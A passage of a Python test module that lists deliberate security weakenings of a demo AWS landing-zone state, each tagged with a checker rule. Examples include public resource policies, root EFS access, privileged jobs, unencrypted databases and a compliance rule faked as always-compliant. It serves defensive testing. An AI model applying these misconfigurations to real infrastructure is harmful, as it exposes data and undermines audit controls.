"""Weakenings of the demo state for the rules the other corpora attacked fewer than three ways.

Each entry is one realistic change (a property set another way, another resource of the stack, a resource
added from outside the components, a value written differently) that really weakens what its rule guards,
tagged with that rule. tests/test_corpus.py runs them and counts every corpus together.

``GAPS`` lists weakenings written the same way that no rule catches yet: they stay out of ``CORPUS`` (a
corpus entry must fail its rule) and say why each one weakens the property.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

import yaml

from tests.access_weakenings import (
    ACCT,
    ADMIN,
    ATTACH,
    AUDIT,
    BUCKET,
    BUCKET_POLICY,
    FOREIGN,
    FOREIGN_ROOT,
    KEY,
    RESULTS,
    ROLE,
    ROLE_POLICY,
    VARIANTS,
    Change,
    Document,
    Weakening,
    add,
    allow,
    append,
    attach,
    combine,
    exempt,
    first_statement,
    inline,
    named,
    policy,
    role,
    set_keys,
    set_prop,
    statement,
    trust_of,
)
from tests.mutations import edit_json, find, remove

W = Weakening
REGION = "us-east-1"
SUPPORT_ROLE = "glz-demo-aws-support"
CONTACT = "aws:account/alternativeContact:AlternativeContact"
SNAPSHOT_BPA = "aws:ebs/snapshotBlockPublicAccess:SnapshotBlockPublicAccess"
DEFAULT_ACL = "aws:ec2/defaultNetworkAcl:DefaultNetworkAcl"
NAT_GATEWAY = "aws:ec2/natGateway:NatGateway"
INTERNET_GATEWAY = "aws:ec2/internetGateway:InternetGateway"
SUBNET_ACL = "aws:ec2/networkAcl:NetworkAcl"
ACL_RULE = "aws:ec2/networkAclRule:NetworkAclRule"
DEFAULT_ACL_ID = "acl-125c080df693e85fd"
SUBNET_ACL_ID = "acl-68872d7b2bfaab265"
IMAGE_BPA = "aws:ec2/imageBlockPublicAccess:ImageBlockPublicAccess"
FOREIGN_KEY = f"arn:aws:kms:{REGION}:{FOREIGN}:key/0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0"
DATA_KEY = f"arn:aws:kms:{REGION}:{ACCT}:key/15d6ecc7-7957-5d84-b7a9-c692e83a8873"
FS_ID = "fs-7e3c2004c1630e995"
FS_ARN = f"arn:aws:elasticfilesystem:{REGION}:{ACCT}:file-system/{FS_ID}"
VPC_ID = "vpc-f30749042cec6f518"
COMPUTE_SG = "sg-03b94a7ee303cc058"
ENDPOINTS_SG = "sg-f0a6c0ca9c4e95148"
SUBNET_1A = "subnet-74e2f5d528c6ec7c1"
JOB_ALIGNMENT = "glz-demo-batch-job-alignment"
JOB_VARIANT_CALLING = "glz-demo-batch-job-variant-calling"
AUDITOR_POLICY = "operators-auditor-evidence"
BROAD = "collaborators-broad-variant-lab"
PHARMACO = "collaborators-pharmaco-analytics"

PASSWORD = "aws:iam/accountPasswordPolicy:AccountPasswordPolicy"
ANALYZER = "aws:accessanalyzer/analyzer:Analyzer"
CLOUD_CONTROL = "aws:cloudcontrol/resource:Resource"
VPN = "aws:ec2/vpnConnection:VpnConnection"
SECURITY_GROUP = "aws:ec2/securityGroup:SecurityGroup"
ROUTE_TYPE = "aws:ec2/route:Route"
RA_PROFILE = "aws:rolesanywhere/profile:Profile"
INSTRUMENT_ROLE = "glz-demo-instrument-novaseq-x-01"
EBS_DEFAULT = "aws:ebs/encryptionByDefault:EncryptionByDefault"
EBS_DEFAULT_KEY = "aws:ebs/defaultKmsKey:DefaultKmsKey"
ACCOUNT_PAB = "aws:s3/accountPublicAccessBlock:AccountPublicAccessBlock"
PACK = "aws:cfg/conformancePack:ConformancePack"
LT = "aws:ec2/launchTemplate:LaunchTemplate"
CE = "aws:batch/computeEnvironment:ComputeEnvironment"
JOB = "aws:batch/jobDefinition:JobDefinition"
INSTANCE = "aws:ec2/instance:Instance"
EFS = "aws:efs/fileSystem:FileSystem"
EFS_POLICY = "aws:efs/fileSystemPolicy:FileSystemPolicy"
EFS_BACKUP = "aws:efs/backupPolicy:BackupPolicy"
ACCESS_POINT = "aws:efs/accessPoint:AccessPoint"
RDS = "aws:rds/instance:Instance"
RDS_CLUSTER = "aws:rds/cluster:Cluster"
RDS_CLUSTER_INSTANCE = "aws:rds/clusterInstance:ClusterInstance"
REDSHIFT = "aws:redshift/cluster:Cluster"
DYNAMODB = "aws:dynamodb/table:Table"
TOPIC = "aws:sns/topic:Topic"
TOPIC_POLICY = "aws:sns/topicPolicy:TopicPolicy"
QUEUE = "aws:sqs/queue:Queue"
REPOSITORY_POLICY = "aws:ecr/repositoryPolicy:RepositoryPolicy"
LAMBDA_PERMISSION = "aws:lambda/permission:Permission"
SECRET_POLICY = "aws:secretsmanager/secretPolicy:SecretPolicy"
TRAIL = "aws:cloudtrail/trail:Trail"
VPC = "aws:ec2/vpc:Vpc"
FLOW_LOG = "aws:ec2/flowLog:FlowLog"
DEFAULT_SG = "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup"
SG = "aws:ec2/securityGroup:SecurityGroup"
SG_INGRESS = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
SG_EGRESS = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule"
ENDPOINT = "aws:ec2/vpcEndpoint:VpcEndpoint"
ECR_API_ENDPOINT_ID = "vpce-94f9252b11cee50f7"
PEERING = "aws:ec2/vpcPeeringConnection:VpcPeeringConnection"
VERSIONING = "aws:s3/bucketVersioning:BucketVersioning"
OWNERSHIP = "aws:s3/bucketOwnershipControls:BucketOwnershipControls"
LOGGING = "aws:s3/bucketLogging:BucketLogging"
LIFECYCLE = "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration"
METRIC_FILTER = "aws:cloudwatch/logMetricFilter:LogMetricFilter"
METRIC_ALARM = "aws:cloudwatch/metricAlarm:MetricAlarm"
PROVIDER = "pulumi:providers:aws"
DHCP_OPTIONS = "aws:ec2/vpcDhcpOptions:VpcDhcpOptions"
EVENT_RULE = "aws:cloudwatch/eventRule:EventRule"
STATE_MACHINE = "aws:sfn/stateMachine:StateMachine"
ROLE_ARN_ADMIN = f"arn:aws:iam::{ACCT}:role/glz-demo-admin"
EVENT_TARGET = "aws:cloudwatch/eventTarget:EventTarget"
LOG_POLICY = "aws:cloudwatch/logResourcePolicy:LogResourcePolicy"
DHCP_ASSOCIATION = "aws:ec2/vpcDhcpOptionsAssociation:VpcDhcpOptionsAssociation"


# ---- ways to change a state ----------------------------------------------------------------------


def unused_access(**values: Any) -> Callable[[Any], Any]:
    """Change the unusedAccess block of an analyzer's configuration (None drops a key)."""

    def change(configuration: Any) -> Any:
        block = configuration[0] if isinstance(configuration, list) else configuration
        unused = block["unusedAccess"]
        unused = unused[0] if isinstance(unused, list) else unused
        set_keys(**values)(unused)
        return configuration

    return change


def edit_prop(typ: str, name: str, key: str, change: Callable[[Any], Any]) -> Change:
    """Replace property ``key`` of the resource ``name`` (inputs and outputs) with ``change(a copy of it)``;
    ``change`` may edit the copy in place and return None."""

    def mutate(document: Document) -> None:
        resource = named(document, typ, name)
        for section in ("inputs", "outputs"):
            target = resource.get(section)
            if target is None or (key not in target and section == "outputs"):
                continue
            value = json.loads(json.dumps(target.get(key)))
            changed = change(value)
            target[key] = value if changed is None else changed

    return mutate


def drop_prop(typ: str, name: str, key: str) -> Change:
    return set_prop(typ, name, key, None)


def instrument_trust(edit: Callable[[dict], Any]) -> Change:
    """Edit the Condition block of the demo instrument role's trust statement."""
    return edit_prop(
        ROLE, "intake-novaseq-x-01", "assumeRolePolicy", in_json(lambda d: [edit(d["Statement"][0]["Condition"]), d][1])
    )


def workflow_task(state: str, edit: Callable[[dict], Any]) -> Change:
    """Edit the Parameters of one state of the demo's run workflow."""
    return edit_prop(
        STATE_MACHINE, "runs-workflow", "definition", in_json(lambda d: [edit(d["States"][state]["Parameters"]), d][1])
    )


def as_classification(value: str) -> Change:
    """The provider's default DataClassification tag (what the gate reads as the stack's class) set to ``value``."""

    def change(document: Document) -> None:
        for resource in document["deployment"]["resources"]:
            if resource["type"] == "pulumi:providers:aws":
                for section in ("inputs", "outputs"):
                    tags = json.loads(resource.get(section, {}).get("defaultTags") or "{}")
                    tags.setdefault("tags", {})["DataClassification"] = value
                    resource.setdefault(section, {})["defaultTags"] = json.dumps(tags)

    return change


def in_json(edit: Callable[[Any], Any]) -> Callable[[Any], Any]:
    """Edit a JSON-string property (a job's containerProperties) as the object it holds."""

    def change(text: Any) -> str:
        parsed = json.loads(text)
        edited = edit(parsed)
        return json.dumps(parsed if edited is None else edited)

    return change


def container(job: str, edit: Callable[[dict], Any]) -> Change:
    return edit_prop(JOB, f"compute-job-definition-{job}", "containerProperties", in_json(edit))


def logs_to(**config: Any) -> Callable[[dict], None]:
    return lambda c: c.update(logConfiguration=config)


def pack_template(edit: Callable[[dict], None]) -> Change:
    """Edit the conformance pack's template (YAML) as the object it holds."""

    def change(text: str) -> str:
        template = yaml.safe_load(text)
        edit(template)
        return yaml.safe_dump(template, sort_keys=False)

    return edit_prop(PACK, "security-conformance-pack", "templateBody", change)


def lifecycle_rule(name: str, rule_id: str, edit: Callable[[dict], None]) -> Change:
    def change(rules: list[dict]) -> None:
        hits = [r for r in rules if r.get("id") == rule_id]
        assert hits, f"no lifecycle rule {rule_id} in {name}"
        for r in hits:
            edit(r)

    return edit_prop(LIFECYCLE, name, "rules", change)


def drop_lifecycle_rule(name: str, rule_id: str) -> Change:
    def change(rules: list[dict]) -> list[dict]:
        kept = [r for r in rules if r.get("id") != rule_id]
        assert len(kept) < len(rules), f"no lifecycle rule {rule_id} in {name}"
        return kept

    return edit_prop(LIFECYCLE, name, "rules", change)


def pop(*keys: str) -> Callable[[dict], None]:
    def apply(d: dict) -> None:
        for key in keys:
            d.pop(key, None)

    return apply


def drop_statement(sid: str) -> Callable[[dict], None]:
    def apply(doc: dict) -> None:
        kept = [s for s in doc["Statement"] if s.get("Sid") != sid]
        assert len(kept) < len(doc["Statement"]), f"no statement {sid}"
        doc["Statement"] = kept

    return apply


def auditor_deny(sid: str, edit: Callable[[dict], None]) -> Change:
    return policy(ROLE_POLICY, AUDITOR_POLICY, statement(sid, edit))


def key(name: str, **inputs: Any) -> Change:
    """A KMS key added from outside the EncryptionKeys component."""
    arn = f"arn:aws:kms:{REGION}:{ACCT}:key/{name}"
    defaults = {
        "arn": arn,
        "keyId": name,
        "customerMasterKeySpec": "SYMMETRIC_DEFAULT",
        "keyUsage": "ENCRYPT_DECRYPT",
        "enableKeyRotation": True,
        "rotationPeriodInDays": 365,
        "deletionWindowInDays": 30,
    }
    return add(KEY, name, {**defaults, **inputs})


def without(rule: str) -> Callable[[dict], None]:
    def apply(template: dict) -> None:
        resources = template["Resources"]
        hits = [k for k, v in resources.items() if v["Properties"]["Source"].get("SourceIdentifier") == rule]
        assert hits, f"no managed rule {rule} in the pack"
        for k in hits:
            del resources[k]

    return apply


def managed_rule(rule: str, edit: Callable[[dict], None]) -> Callable[[dict], None]:
    def apply(template: dict) -> None:
        hits = [v for v in template["Resources"].values() if v["Properties"]["Source"].get("SourceIdentifier") == rule]
        assert hits, f"no managed rule {rule} in the pack"
        for v in hits:
            edit(v["Properties"])

    return apply


def _given(values: dict[str, Any]) -> dict[str, Any]:
    """The properties a resource sets (None: left unset)."""
    return {k: v for k, v in values.items() if v is not None}


def rds(name: str, **inputs: Any) -> Change:
    """An RDS instance added beside the landing zone (a results database, say)."""
    defaults = {
        "identifier": name,
        "engine": "postgres",
        "instanceClass": "db.r7g.large",
        "allocatedStorage": 100,
        "storageEncrypted": True,
        "kmsKeyId": DATA_KEY,
        "publiclyAccessible": False,
        "backupRetentionPeriod": 35,
        "dbSubnetGroupName": "glz-demo-results-db",
    }
    return add(RDS, name, _given({**defaults, **inputs}))


def efs(name: str, fs_id: str, **inputs: Any) -> Change:
    """A file system added from outside the ReferenceData component."""
    defaults = {
        "arn": f"arn:aws:elasticfilesystem:{REGION}:{ACCT}:file-system/{fs_id}",
        "creationToken": name,
        "encrypted": True,
        "kmsKeyId": DATA_KEY,
        "performanceMode": "generalPurpose",
    }
    return add(EFS, name, _given({**defaults, **inputs}))


def outside_bucket(name: str) -> Change:
    """A bucket someone adds beside the data lake: encrypted with the data key, and no other configuration."""
    bucket = f"glz-demo-{name}-{ACCT}-{REGION}"
    return combine(
        add(BUCKET, name, {"bucket": bucket, "tags": {"DataTier": "results"}}),
        add(
            "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration",
            f"{name}-encryption",
            {
                "bucket": bucket,
                "rules": [
                    {
                        "applyServerSideEncryptionByDefault": {"sseAlgorithm": "aws:kms", "kmsMasterKeyId": DATA_KEY},
                        "bucketKeyEnabled": True,
                    }
                ],
            },
        ),
    )


def workload_trust(edit: Callable[[dict], Any]) -> Change:
    """Edit the conditions of the workload collaborator's (pharmaco-analytics) trust statement."""
    return policy(ROLE, PHARMACO, lambda d: [edit(s["Condition"]) for s in d["Statement"]], "assumeRolePolicy")


def auditor_reads(bucket_policy: str) -> Change:
    """The bucket's purpose-read deny exempts the security auditor (its own deny is then the last line)."""
    auditor = f"arn:aws:iam::{ACCT}:role/glz-demo-security-auditor"
    return policy(BUCKET_POLICY, bucket_policy, statement("DenyObjectReadsOutsidePurpose", exempt(auditor)))


def resource_policy(*statements: dict) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


CORPUS: list[Weakening] = [
    # GLZ-ACC-001: the password policy, weakened in another setting each time
    W(
        "password policy: symbols no longer required",
        set_prop(PASSWORD, "security-password-policy", "requireSymbols", False),
        "GLZ-ACC-001",
    ),
    W(
        "password policy: reuse prevention 5 (of 24)",
        set_prop(PASSWORD, "security-password-policy", "passwordReusePrevention", 5),
        "GLZ-ACC-001",
    ),
    W(
        "password policy: maxPasswordAge unset (passwords never expire)",
        drop_prop(PASSWORD, "security-password-policy", "maxPasswordAge"),
        "GLZ-ACC-001",
    ),
    # GLZ-ACC-006: EBS encryption by default
    W(
        "EBS encryption by default removed (security service turned off)",
        remove(EBS_DEFAULT, "security-ebs-encryption-by-default"),
        "GLZ-ACC-006",
    ),
    W(
        "a second EncryptionByDefault from outside switches it off",
        add(EBS_DEFAULT, "legacy-ebs-compat", {"enabled": False}),
        "GLZ-ACC-006",
    ),
    # GLZ-ACC-007: the account-level public access block
    W(
        "account public access block removed",
        remove(ACCOUNT_PAB, "security-s3-public-access-block"),
        "GLZ-ACC-007",
    ),
    W(
        "account public access block: restrictPublicBuckets unset (defaults false)",
        drop_prop(ACCOUNT_PAB, "security-s3-public-access-block", "restrictPublicBuckets"),
        "GLZ-ACC-007",
    ),
    W(
        "a second AccountPublicAccessBlock from outside lets public ACLs count",
        add(
            ACCOUNT_PAB,
            "website-public-access",
            {
                "accountId": ACCT,
                "blockPublicAcls": False,
                "blockPublicPolicy": True,
                "ignorePublicAcls": False,
                "restrictPublicBuckets": True,
            },
        ),
        "GLZ-ACC-007",
    ),
    # GLZ-ACC-008: the conformance pack, one rule at a time
    W(
        "conformance pack: the log-file-validation rule deleted from the template",
        pack_template(without("CLOUD_TRAIL_LOG_FILE_VALIDATION_ENABLED")),
        "GLZ-ACC-008",
    ),
    W(
        "conformance pack: access keys may age 365 days (catalog says 90)",
        pack_template(
            managed_rule("ACCESS_KEYS_ROTATED", lambda p: p.update(InputParameters={"maxAccessKeyAge": "365"}))
        ),
        "GLZ-ACC-008",
    ),
    W(
        "conformance pack: a rule's source swapped for a custom Lambda",
        pack_template(
            managed_rule(
                "CLOUD_TRAIL_ENABLED",
                lambda p: p.update(
                    Source={
                        "Owner": "CUSTOM_LAMBDA",
                        "SourceIdentifier": f"arn:aws:lambda:{REGION}:{ACCT}:function:always-compliant",
                        "SourceDetails": [{"EventSource": "aws.config", "MessageType": "ScheduledNotification"}],
                    }
                ),
            )
        ),
        "GLZ-ACC-008",
    ),
    # GLZ-CMP-002: launch template volumes under the compute key
    W(
        "root volume: kmsKeyId unset (AWS-managed aws/ebs key)",
        edit_prop(LT, "compute-launch-template", "blockDeviceMappings", lambda m: pop("kmsKeyId")(m[0]["ebs"])),
        "GLZ-CMP-002",
    ),
    W(
        "scratch volume: encrypted with another account's key",
        edit_prop(
            LT, "compute-launch-template", "blockDeviceMappings", lambda m: m[1]["ebs"].update(kmsKeyId=FOREIGN_KEY)
        ),
        "GLZ-CMP-002",
    ),
    W(
        "root volume: the AWS-managed key named by its alias",
        edit_prop(
            LT, "compute-launch-template", "blockDeviceMappings", lambda m: m[0]["ebs"].update(kmsKeyId="alias/aws/ebs")
        ),
        "GLZ-CMP-002",
    ),
    W(
        "block device mappings removed (volumes as the AMI says)",
        drop_prop(LT, "compute-launch-template", "blockDeviceMappings"),
        "GLZ-CMP-002",
    ),
    # GLZ-CMP-004: Amazon Linux 2023
    W(
        "on-demand environment: GPU AL2 image type added beside AL2023",
        edit_prop(
            CE,
            "compute-on-demand",
            "computeResources",
            lambda c: c["ec2Configurations"].append({"imageType": "ECS_AL2_NVIDIA"}),
        ),
        "GLZ-CMP-004",
    ),
    W(
        "FPGA environment: image type ECS_AL1",
        edit_prop(
            CE, "compute-fpga", "computeResources", lambda c: c["ec2Configurations"][0].update(imageType="ECS_AL1")
        ),
        "GLZ-CMP-004",
    ),
    W(
        "a compute environment added from outside on ECS_AL2",
        add(
            CE,
            "legacy-batch",
            {
                "name": "glz-demo-legacy",
                "type": "MANAGED",
                "state": "ENABLED",
                "computeResources": {
                    "type": "EC2",
                    "instanceTypes": ["m6i"],
                    "maxVcpus": 64,
                    "minVcpus": 0,
                    "ec2Configurations": [{"imageType": "ECS_AL2"}],
                    "instanceRole": f"arn:aws:iam::{ACCT}:instance-profile/glz-demo-batch-instance",
                    "securityGroupIds": [COMPUTE_SG],
                    "subnets": [SUBNET_1A],
                },
            },
        ),
        "GLZ-CMP-004",
    ),
    # GLZ-CMP-005: F2 only
    W(
        "FPGA environment: f1.16xlarge beside f2.12xlarge",
        edit_prop(CE, "compute-fpga", "computeResources", lambda c: c["instanceTypes"].append("f1.16xlarge")),
        "GLZ-CMP-005",
    ),
    W(
        "on-demand environment: the whole f1 family",
        edit_prop(CE, "compute-on-demand", "computeResources", lambda c: c["instanceTypes"].append("f1")),
        "GLZ-CMP-005",
    ),
    # GLZ-CMP-007: unprivileged, bounded jobs
    W(
        "variant calling: no timeout",
        drop_prop(JOB, "compute-job-definition-variant-calling", "timeout"),
        "GLZ-CMP-007",
    ),
    W(
        "alignment: retries on every failure (evaluateOnExits dropped)",
        edit_prop(JOB, "compute-job-definition-alignment", "retryStrategy", pop("evaluateOnExits")),
        "GLZ-CMP-007",
    ),
    W(
        "a debugging job definition added from outside runs privileged",
        add(
            JOB,
            "debug-shell",
            {
                "name": "glz-demo-debug-shell",
                "type": "container",
                "platformCapabilities": ["EC2"],
                "containerProperties": json.dumps(
                    {
                        "image": f"{ACCT}.dkr.ecr.{REGION}.amazonaws.com/genomics/debug:1.0.0",
                        "privileged": True,
                        "readonlyRootFilesystem": True,
                        "user": "1000",
                        "resourceRequirements": [{"type": "VCPU", "value": "2"}, {"type": "MEMORY", "value": "4096"}],
                        "logConfiguration": {
                            "logDriver": "awslogs",
                            "options": {"awslogs-group": "/aws/batch/glz-demo-jobs", "awslogs-region": REGION},
                        },
                    }
                ),
                "timeout": {"attemptDurationSeconds": 3600},
                "retryStrategy": {
                    "attempts": 2,
                    "evaluateOnExits": [
                        {"action": "RETRY", "onStatusReason": "Host EC2*"},
                        {"action": "EXIT", "onReason": "*"},
                    ],
                },
            },
        ),
        "GLZ-CMP-007",
    ),
    # GLZ-CMP-008: EFS under the data key
    W(
        "reference file system: kmsKeyId unset (AWS-managed EFS key)",
        drop_prop(EFS, "compute-reference", "kmsKeyId"),
        "GLZ-CMP-008",
    ),
    W(
        "reference file system: encrypted unset (defaults false)",
        combine(drop_prop(EFS, "compute-reference", "encrypted"), drop_prop(EFS, "compute-reference", "kmsKeyId")),
        "GLZ-CMP-008",
    ),
    W(
        "a scratch file system added from outside, unencrypted",
        efs("shared-scratch", "fs-0a1b2c3d4e5f60718", encrypted=False, kmsKeyId=None),
        "GLZ-CMP-008",
    ),
    # GLZ-CMP-014: job logs stay in the stack
    W(
        "alignment: logs through the json-file driver (stay on the host)",
        container("alignment", logs_to(logDriver="json-file")),
        "GLZ-CMP-014",
    ),
    W(
        "variant calling: logConfiguration removed (default group /aws/batch/job)",
        container("variant-calling", pop("logConfiguration")),
        "GLZ-CMP-014",
    ),
    W(
        "alignment: awslogs to a group outside the stack",
        container(
            "alignment",
            logs_to(logDriver="awslogs", options={"awslogs-group": "/shared/pipelines", "awslogs-region": REGION}),
        ),
        "GLZ-CMP-014",
    ),
    W(
        "variant calling: logs shipped to Splunk",
        container(
            "variant-calling",
            logs_to(logDriver="splunk", options={"splunk-url": "https://splunk.example.org:8088"}),
        ),
        "GLZ-CMP-014",
    ),
    # GLZ-DATA-001: databases added beside the landing zone
    W(
        "RDS instance added, storage unencrypted",
        rds("results-db", storageEncrypted=False, kmsKeyId=None),
        "GLZ-DATA-001",
    ),
    W(
        "RDS instance added, encrypted with the AWS-managed key",
        rds("results-db", kmsKeyId=None),
        "GLZ-DATA-001",
    ),
    W(
        "RDS instance added, publicly accessible",
        rds("results-db", publiclyAccessible=True),
        "GLZ-DATA-001",
    ),
    W(
        "DynamoDB table added with the AWS-owned key",
        add(
            DYNAMODB,
            "sample-index",
            {"name": "glz-demo-sample-index", "billingMode": "PAY_PER_REQUEST", "hashKey": "sampleId"},
        ),
        "GLZ-DATA-001",
    ),
    W(
        "Aurora cluster added, storageEncrypted unset (defaults false)",
        add(
            RDS_CLUSTER,
            "variant-db",
            {"clusterIdentifier": "glz-demo-variant-db", "engine": "aurora-postgresql", "backupRetentionPeriod": 35},
        ),
        "GLZ-DATA-001",
    ),
    # GLZ-DATA-002: recoverable data stores
    W(
        "reference EFS backup policy DISABLED",
        edit_prop(EFS_BACKUP, "compute-reference-backup", "backupPolicy", lambda b: b.update(status="DISABLED")),
        "GLZ-DATA-002",
    ),
    W(
        "reference EFS backup policy removed",
        remove(EFS_BACKUP, "compute-reference-backup"),
        "GLZ-DATA-002",
    ),
    W(
        "RDS instance added with automated backups off (retention 0)",
        rds("results-db", backupRetentionPeriod=0),
        "GLZ-DATA-002",
    ),
    W(
        "a file system added from outside, not in AWS Backup",
        efs("shared-scratch", "fs-0a1b2c3d4e5f60718"),
        "GLZ-DATA-002",
    ),
    # GLZ-IAM-008: session duration
    W(
        "admin sessions last 24 hours",
        set_prop(ROLE, "operators-admin", "maxSessionDuration", 86400),
        "GLZ-IAM-008",
    ),
    W(
        "collaborator sessions last 36 hours",
        set_prop(ROLE, PHARMACO, "maxSessionDuration", 129600),
        "GLZ-IAM-008",
    ),
    W(
        "a role added from outside with week-long sessions",
        role(
            "glz-demo-night-shift",
            trust_of({"AWS": f"arn:aws:iam::{ACCT}:root"}, condition={"Bool": {"aws:MultiFactorAuthPresent": "true"}}),
            maxSessionDuration=604800,
        ),
        "GLZ-IAM-008",
    ),
    # GLZ-IAM-013: resource policies of other services
    W(
        "alarm topic: anyone may subscribe",
        policy(
            TOPIC_POLICY,
            "audit-alarms",
            append(
                {
                    "Sid": "AnyoneSubscribes",
                    "Effect": "Allow",
                    "Principal": {"AWS": "*"},
                    "Action": "sns:Subscribe",
                    "Resource": f"arn:aws:sns:{REGION}:{ACCT}:glz-demo-security-alarms",
                }
            ),
        ),
        "GLZ-IAM-013",
    ),
    W(
        "reference file system: another account may mount it",
        policy(
            EFS_POLICY,
            "compute-reference-policy",
            append(
                {
                    "Sid": "PartnerMount",
                    "Effect": "Allow",
                    "Principal": {"AWS": FOREIGN_ROOT},
                    "Action": "elasticfilesystem:ClientMount",
                    "Resource": FS_ARN,
                    "Condition": {"Bool": {"aws:SecureTransport": "true"}},
                }
            ),
        ),
        "GLZ-IAM-013",
    ),
    W(
        "a queue added from outside that anyone may send to",
        add(
            QUEUE,
            "pipeline-events",
            {
                "name": "glz-demo-pipeline-events",
                "arn": f"arn:aws:sqs:{REGION}:{ACCT}:glz-demo-pipeline-events",
                "policy": resource_policy(
                    {
                        "Sid": "Anyone",
                        "Effect": "Allow",
                        "Principal": "*",
                        "Action": "sqs:SendMessage",
                        "Resource": f"arn:aws:sqs:{REGION}:{ACCT}:glz-demo-pipeline-events",
                    }
                ),
            },
        ),
        "GLZ-IAM-013",
    ),
    W(
        "an ECR repository policy lets another account pull pipeline images",
        add(
            REPOSITORY_POLICY,
            "gatk-partner-pull",
            {
                "repository": "genomics/gatk",
                "policy": resource_policy(
                    {
                        "Sid": "PartnerPull",
                        "Effect": "Allow",
                        "Principal": {"AWS": FOREIGN_ROOT},
                        "Action": ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
                    }
                ),
            },
        ),
        "GLZ-IAM-013",
    ),
    W(
        "a Lambda permission lets another account (by bare account ID) invoke a function",
        add(
            LAMBDA_PERMISSION,
            "partner-invoke",
            {"action": "lambda:InvokeFunction", "function": "glz-demo-sample-intake", "principal": FOREIGN},
        ),
        "GLZ-IAM-013",
    ),
    W(
        "a secret policy lets everyone read it",
        add(
            SECRET_POLICY,
            "pipeline-token-policy",
            {
                "secretArn": f"arn:aws:secretsmanager:{REGION}:{ACCT}:secret:glz-demo-pipeline-token-AbCdEf",
                "policy": resource_policy(
                    {
                        "Sid": "Everyone",
                        "Effect": "Allow",
                        "Principal": {"AWS": "*"},
                        "Action": "secretsmanager:GetSecretValue",
                        "Resource": "*",
                    }
                ),
            },
        ),
        "GLZ-IAM-013",
    ),
    # GLZ-IAM-014: collaborator reach beyond the grant
    W(
        "broad-variant-lab: sequencing-run condition dropped (other runs readable)",
        policy(
            ROLE_POLICY,
            f"{BROAD}-data-access",
            statement("ReadObjectsOfSequencingRuns", set_keys(Condition=None)),
        ),
        "GLZ-IAM-014",
    ),
    W(
        "broad-variant-lab: AmazonS3ReadOnlyAccess attached (whole tiers within the boundary)",
        attach(BROAD, "glz-demo-collab-broad-variant-lab", "arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"),
        "GLZ-IAM-014",
    ),
    W(
        "pharmaco-analytics: a second principal of the collaborator's account trusted",
        policy(
            ROLE,
            PHARMACO,
            statement(
                "CollaboratorAssumesWithExternalId",
                set_keys(
                    Principal={
                        "AWS": [
                            "arn:aws:iam::777788889999:role/pgx-pipeline",
                            "arn:aws:iam::777788889999:role/pgx-admin",
                        ]
                    }
                ),
            ),
            "assumeRolePolicy",
        ),
        "GLZ-IAM-014",
    ),
    W(
        "pharmaco-analytics: listing without the prefix condition",
        policy(ROLE_POLICY, f"{PHARMACO}-data-access", statement("ListAllowedPrefixes", set_keys(Condition=None))),
        "GLZ-IAM-014",
    ),
    W(
        "pharmaco-analytics: reads widened from the prefix to the whole bucket",
        policy(
            ROLE_POLICY,
            f"{PHARMACO}-data-access",
            statement("ReadObjects", set_keys(Resource=[f"arn:aws:s3:::{RESULTS}/*"])),
        ),
        "GLZ-IAM-014",
    ),
    # GLZ-IAM-015: the auditor never reads genomic data. The data buckets' purpose-read deny refuses the auditor
    # too, so a weaker auditor deny alone changes nothing it can read; each entry below also exempts the
    # auditor in one bucket's deny (the realistic "give the auditor this tier" change), leaving its own deny as
    # the last line, which the weakening then breaks.
    W(
        "auditor: the deny on decrypting with the data key removed",
        policy(ROLE_POLICY, AUDITOR_POLICY, drop_statement("DenyDataDecryption")),
        "GLZ-IAM-015",
    ),
    W(
        "auditor: the read deny no longer lists the variants bucket",
        combine(
            auditor_reads("data-variants-policy"),
            auditor_deny(
                "DenyReadingGenomicData",
                lambda s: s.update(Resource=[r for r in s["Resource"] if VARIANTS not in r]),
            ),
        ),
        "GLZ-IAM-015",
    ),
    W(
        "auditor: the read deny covers current versions only (GetObjectVersion open)",
        combine(
            auditor_reads("data-variants-policy"),
            auditor_deny("DenyReadingGenomicData", set_keys(Action=["s3:GetObject"])),
        ),
        "GLZ-IAM-015",
    ),
    W(
        "auditor: the read deny applies only without TLS",
        combine(
            auditor_reads("data-fastq-policy"),
            auditor_deny("DenyReadingGenomicData", set_keys(Condition={"Bool": {"aws:SecureTransport": "false"}})),
        ),
        "GLZ-IAM-015",
    ),
    W(
        "auditor: the read deny inverted to NotResource (everything but two tiers)",
        combine(
            auditor_reads("data-results-policy"),
            auditor_deny(
                "DenyReadingGenomicData",
                set_keys(Resource=None, NotResource=[f"arn:aws:s3:::{AUDIT}/*", f"arn:aws:s3:::{RESULTS}/*"]),
            ),
        ),
        "GLZ-IAM-015",
    ),
    # GLZ-IAM-016: the reference file system stays read-only
    W(
        "file-system policy: ClientWrite beside ClientMount",
        policy(
            EFS_POLICY,
            "compute-reference-policy",
            statement(
                "ReadOnlyMountThroughAccessPoint",
                set_keys(Action=["elasticfilesystem:ClientMount", "elasticfilesystem:ClientWrite"]),
            ),
        ),
        "GLZ-IAM-016",
    ),
    W(
        "access point maps clients to root (uid 0, gid 0)",
        set_prop(ACCESS_POINT, "compute-reference-read-only", "posixUser", {"uid": 0, "gid": 0}),
        "GLZ-IAM-016",
    ),
    W(
        "access point without a POSIX user (clients keep their own uid, root included)",
        drop_prop(ACCESS_POINT, "compute-reference-read-only", "posixUser"),
        "GLZ-IAM-016",
    ),
    W(
        "an access point added from outside as root",
        add(
            ACCESS_POINT,
            "reference-admin",
            {"fileSystemId": FS_ID, "posixUser": {"uid": 0, "gid": 0}, "rootDirectory": {"path": "/reference"}},
        ),
        "GLZ-IAM-016",
    ),
    W(
        "alignment job role: inline ClientWrite and ClientRootAccess on the file system",
        inline(
            "compute-job-alignment",
            JOB_ALIGNMENT,
            {
                "Sid": "Added",
                "Effect": "Allow",
                "Action": ["elasticfilesystem:ClientWrite", "elasticfilesystem:ClientRootAccess"],
                "Resource": FS_ARN,
            },
        ),
        "GLZ-IAM-016",
    ),
    W(
